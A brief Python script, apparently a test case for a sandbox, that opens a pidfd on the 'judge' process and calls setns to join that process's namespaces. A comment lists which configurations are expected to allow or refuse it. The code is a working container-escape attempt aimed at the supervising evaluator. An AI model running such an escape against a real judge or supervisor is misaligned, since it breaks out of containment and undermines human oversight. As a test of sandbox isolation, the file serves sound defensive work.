# Joins all of the judge's namespaces through a descriptor of its process.
# process: reached or refused (as root); restricted, sandbox: refused
import os

from attack import call, syscall

PIDFD_OPEN, FILES = 434, 0x00020000
call("setns", syscall(PIDFD_OPEN, int(os.environ["JUDGE"]), 0), FILES)
